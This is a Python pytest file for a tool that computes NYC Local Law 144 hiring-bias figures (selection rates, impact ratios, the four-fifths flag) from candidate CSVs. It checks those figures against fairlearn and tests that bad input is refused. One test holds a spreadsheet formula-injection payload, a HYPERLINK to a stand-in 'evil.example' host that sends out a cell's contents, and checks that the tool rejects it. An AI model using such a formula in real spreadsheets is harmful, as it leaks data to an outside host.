"""NYC LL144 figures from a candidate CSV, checked against fairlearn's MetricFrame, and refused input."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pandas
import pytest
from fairlearn.metrics import MetricFrame, selection_rate
from wizard_helpers import candidates, write_csv

from assay.backend.engines.wizard import ll144
from assay.backend.engines.wizard.ll144 import EXCLUSION_SHARE, DataError, compute


def _compute(text: str | bytes) -> dict[str, Any]:
    return compute(io.BytesIO(text.encode("utf-8") if isinstance(text, str) else text))


def _peer_rates(frame: pandas.DataFrame, positive: pandas.Series, by: list[str]) -> dict[tuple[str, ...], float]:
    """fairlearn's selection rate of each category with a known value in ``by``."""
    known = frame[by].ne("").all(axis=1)
    metric = MetricFrame(
        metrics=selection_rate,
        y_true=positive[known],
        y_pred=positive[known],
        sensitive_features=frame.loc[known, by],
    )
    groups = metric.by_group
    return {(k if isinstance(k, tuple) else (k,)): float(v) for k, v in groups.items()}


def _ours(table: list[dict[str, Any]], by: list[str]) -> dict[tuple[str, ...], dict[str, Any]]:
    keys = {"sex": "sex", "race_ethnicity": "raceEthnicity"}
    return {tuple(row[keys[b]] for b in by): row for row in table if row["count"]}


@pytest.mark.parametrize(("score", "decimals"), [(False, 1), (True, 0), (True, 6)])
def test_rates_and_impact_ratios_equal_fairlearn(tmp_path: Path, score: bool, decimals: int) -> None:
    # Whole-number scores repeat (counted by line), scores of six decimals hardly (read by columns).
    rows = candidates(6000, score=score, decimals=decimals)
    path = write_csv(tmp_path / "c.csv", rows, score=score)
    with path.open("rb") as stream:
        figures = compute(stream)
    frame = pandas.read_csv(path, keep_default_na=False, dtype=str)
    if score:
        scores = frame["score"].astype(float)
        median = float(scores.median())
        assert figures["medianScore"] == median
        positive = (scores > median).astype(int)
    else:
        positive = frame["selected"].astype(int)
    assert figures["method"] == ("scoring_rate" if score else "selection_rate")
    total = len(frame)
    for by, table in (
        (["sex"], "bySex"),
        (["race_ethnicity"], "byRaceEthnicity"),
        (["sex", "race_ethnicity"], "intersectional"),
    ):
        peer = _peer_rates(frame, positive, by)
        ours = _ours(figures[table], by)
        assert set(peer) == set(ours)
        counts = frame.groupby(by).size()
        included = {k: r for k, r in peer.items() if counts[k if len(k) > 1 else k[0]] / total >= EXCLUSION_SHARE}
        top = max(included.values())
        for key, rate in peer.items():
            assert ours[key]["rate"] == pytest.approx(rate, abs=1e-12)
            if key in included:
                assert ours[key]["impactRatio"] == pytest.approx(rate / top, abs=1e-12)
                assert ours[key]["underFourFifths"] == (rate / top < 0.8)
            else:
                assert ours[key]["excludedFromRatios"] and ours[key]["impactRatio"] is None
    # Two races are under 2% of the rows: excluded from the ratios, still reported with their counts.
    excluded = [r for r in figures["byRaceEthnicity"] if r["excludedFromRatios"]]
    assert {r["raceEthnicity"] for r in excluded} == {
        "Native Hawaiian or Other Pacific Islander",
        "American Indian or Alaska Native",
    }
    assert all(r["count"] > 0 for r in excluded)
    assert figures["unknown"]["sex"] == sum(1 for s, _r, _v in rows if s == "")
    assert figures["rows"] == 6000


class _OneWay(io.BytesIO):
    """A stream that cannot seek (an upload piped in): read once, by the exact reader."""

    def seekable(self) -> bool:
        return False


@pytest.mark.parametrize(("score", "decimals"), [(False, 1), (True, 2), (True, 6)])
def test_arrow_reader_and_exact_reader_give_the_same_figures(tmp_path: Path, score: bool, decimals: int) -> None:
    path = write_csv(tmp_path / "c.csv", candidates(6000, score=score, decimals=decimals), score=score)
    with path.open("rb") as stream:
        by_arrow = compute(stream)
    assert by_arrow == compute(_OneWay(path.read_bytes()))


def _outcome(stream: io.BytesIO) -> dict[str, Any] | str:
    try:
        return compute(stream)
    except DataError as exc:
        return f"DataError: {exc}"


_EDGE_FILES = [
    # Plain files Arrow reads: spaces and case in categories, long EEO-1 names, unknowns, CRLF, a BOM, a
    # missing last line end, blank lines, extra columns in any order, scores Arrow and float() read alike.
    b"id,sex,race_ethnicity,selected\nc1, male ,WHITE,1\nc2,Female,Asian (Not Hispanic or Latino),0\n"
    b"c3,,Prefer not to say,1\nc4,Female,Unknown, 0\n",
    b"\xef\xbb\xbfsex,race_ethnicity,selected\r\nMale,White,1\r\n\r\nFemale,Asian,0\r\nMale,Asian,1",
    b"selected,note,race_ethnicity,sex\n1,x,White,Male\n\n0,y,Asian,Female\n",
    b"sex,race_ethnicity,score\nMale,White,+1.5\nFemale,White, 2 \nMale,Asian,1e3\nFemale,Asian,.5\n",
    "id,name,sex,race_ethnicity,score\n1,Zoë,Female,White,3\n2,José,Male,White,4\n".encode(),
    b"sex,race_ethnicity,score\nMale,White,3\nFemale,White,1\nMale,Asian,2\n",  # odd: the middle score
    b"sex,race_ethnicity,score\nMale,White,2\nFemale,White,2\nMale,Asian,1\nFemale,Asian,5\n",
    b"sex,race_ethnicity,score\nMale,White,7\n",
    # Anything else: the exact reader refuses it, or reads what Arrow does not take.
    "id,name,sex,race_ethnicity,selected\n1,Zoë,Female,White,1\n2,José,Male,White,0\n".encode("latin-1"),
    b'name,sex,race_ethnicity,selected\n"x,Male,White,1\ny",Female,White,0\n',
    b"id,sex,race_ethnicity,selected\nc1,Male,White,1\n,,,\nc3,Female,White,0\n",
    b"id,sex,race_ethnicity,selected\nc1,Male,White,1\nc2,Female,White,0,extra\n",
    b"id,sex,race_ethnicity,selected\nc1,Male,White,01\n",
    b"id,sex,race_ethnicity,score\nc1,Male,White,1_000\nc2,Male,White,NA\n",
    b"id,sex,race_ethnicity,score\nc1,Male,White,1\nc2,Male,White,\n",
    b"id,sex,race_ethnicity,score\nc1,Male,White,1\nc2,Male,White,-inf\n",
    b"id,sex,race_ethnicity,selected\nc1,Male,White,1\nc2,Male,=1+2,0\n",
    b"id,sex,race_ethnicity,selected\n",
    b"id,sex,race_ethnicity,selected",
]


@pytest.mark.parametrize("block", [None, 40])
@pytest.mark.parametrize("content", _EDGE_FILES)
def test_edge_files_give_what_the_exact_reader_gives(
    monkeypatch: pytest.MonkeyPatch, content: bytes, block: int | None
) -> None:
    # Arrow reads a file in pieces cut at line ends; small pieces put a cut in every line or two.
    if block is not None:
        monkeypatch.setattr(ll144, "ARROW_BYTES", block)
    assert _outcome(io.BytesIO(content)) == _outcome(_OneWay(content))


def test_a_quoted_line_break_is_never_taken_for_a_row(tmp_path: Path) -> None:
    # Without quoting, the two lines would be two plain rows (the note holds a whole row's cells).
    text = 'note,sex,race_ethnicity,selected\n"x,Male,White,1\ny",Female,White,0\n'
    figures = _compute(text)
    assert figures["rows"] == 1
    assert [r["count"] for r in figures["bySex"]] == [0, 1]


@pytest.mark.parametrize("score", [False, True])
def test_a_file_read_in_many_pieces_gives_the_same_figures(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, score: bool
) -> None:
    path = write_csv(tmp_path / "c.csv", candidates(3000, score=score, decimals=2), score=score)
    with path.open("rb") as stream:
        whole = compute(stream)
    monkeypatch.setattr(ll144, "ARROW_BYTES", 4096)
    with path.open("rb") as stream:
        assert compute(stream) == whole == compute(_OneWay(path.read_bytes()))


def test_under_four_fifths_is_marked_with_a_small_sample_note() -> None:
    text = "sex,race_ethnicity,selected\n" + "Male,White,1\n" * 10 + "Female,White,1\n" * 5 + "Female,White,0\n" * 5
    figures = _compute(text)
    female = next(r for r in figures["bySex"] if r["sex"] == "Female")
    assert female["impactRatio"] == 0.5 and female["underFourFifths"] and female["smallSample"]
    assert figures["underFourFifths"] == [
        {"table": "bySex", "category": "Female", "impactRatio": 0.5},
        {"table": "intersectional", "category": "Female / White", "impactRatio": 0.5},
    ]


def test_eeo1_long_names_blank_lines_crlf_and_bom_are_read() -> None:
    text = (
        "\ufeffSex,Race_Ethnicity,Selected\r\n"
        "male,White (Not Hispanic or Latino),1\r\n"
        "\r\n"
        "Female,Asian (Not Hispanic or Latino),0\r\n"
        'Female,"Hispanic or Latino",1\r\n'
    )
    figures = _compute(text)
    assert figures["rows"] == 3
    assert [r["count"] for r in figures["bySex"]] == [1, 2]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty"),
        (b"sex,selected\nMale,1\n", "Missing column(s): race_ethnicity"),
        (b"sex,race_ethnicity\nMale,White\n", "selected or score"),
        (b"sex,race_ethnicity,selected,score\nMale,White,1,3\n", "both selected and score"),
        (b"sex,race_ethnicity,selected\n", "no candidate rows"),
        (b"sex,race_ethnicity,selected\nMale,White,1\nMale,Martian,0\n", 'data row 2: race_ethnicity "Martian"'),
        (b"sex,race_ethnicity,selected\nMale,White,1\nMale,White,2\n", "data row 2: selected"),
        (b"sex,race_ethnicity,selected\nMale,White,1\nMale,White\n", "data row 2 has 2 cell(s)"),
        (b"sex,race_ethnicity,score\nMale,White,1.5\nFemale,White,nan\n", "data row 2: score"),
        (b"sex,race_ethnicity,score\nMale,White,1.5\nFemale,White,=1+2\n", "data row 2: score"),
        (b"id,sex,race_ethnicity,score\n" + b"c,Male,White,1.5\n" * 5 + b"c,Male,White,inf\n", "data row 6: score"),
        ("sex,race_ethnicity,selected\nMale,Blanc,1\nFemme,Noir,0\n".encode("latin-1"), "data row 1"),
        ("sex,race_ethnicity,selected\nMale,Hispánico,1\n".encode("latin-1"), "not UTF-8"),
        ("sex,race_ethnicity,selected\nMale,White,1\n".encode("utf-16"), "UTF-16"),
        (b'sex,race_ethnicity,selected\nMale,"White,1\n', "malformed"),
        # A short line beside a long one: the comma total matches, the rows do not.
        (
            b"id,sex,race_ethnicity,selected\nc1,Male,White,1\nMale,White,1\nc3,Male,White,1,x\n",
            "data row 2 has 3 cell",
        ),
        (b"id,sex,race_ethnicity,selected\nc1,Male,White,1\nc2,Male,Purple,1\n", 'data row 2: race_ethnicity "Purple"'),
    ],
)
def test_unusable_files_are_refused_with_the_reason(content: bytes, message: str) -> None:
    with pytest.raises(DataError, match=None) as caught:
        _compute(content)
    assert message in str(caught.value)


def test_formula_cells_are_refused_and_quoted_only_json_escaped() -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with pytest.raises(DataError) as caught:
        _compute(f"sex,race_ethnicity,selected\nMale,White,1\nMale,{formula.replace(',', ';')},0\n")
    message = str(caught.value)
    assert "data row 2" in message and "race_ethnicity" in message
    # Quoted as JSON text, cut: never the raw cell.
    assert '"=HYPERLINK(\\"http://evil.example/?\\"&A1;\\"c..."' in message


def test_quoted_cells_and_extra_columns_go_through_the_csv_reader() -> None:
    text = 'id,note,sex,race_ethnicity,selected\n1,"a, b",Male,White,1\n2,"line\nbreak",Female,White,0\n'
    figures = _compute(text)
    assert figures["rows"] == 2
    assert [r["rate"] for r in figures["bySex"]] == [1.0, 0.0]
